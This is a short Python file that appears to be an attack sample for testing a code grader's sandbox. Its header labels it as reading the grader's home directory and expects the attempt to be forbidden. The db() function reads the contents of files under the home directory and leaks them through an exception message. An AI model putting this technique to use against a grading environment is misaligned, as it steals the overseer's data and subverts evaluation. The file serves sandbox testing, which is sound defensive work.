# attacks: reads the grader's home directory
# outcome: db forbidden|error
# points: 0
from pathlib import Path


def db(dZ):
    raise RuntimeError([path.read_text()[:80] for path in Path.home().rglob("*") if path.is_file()][:3])
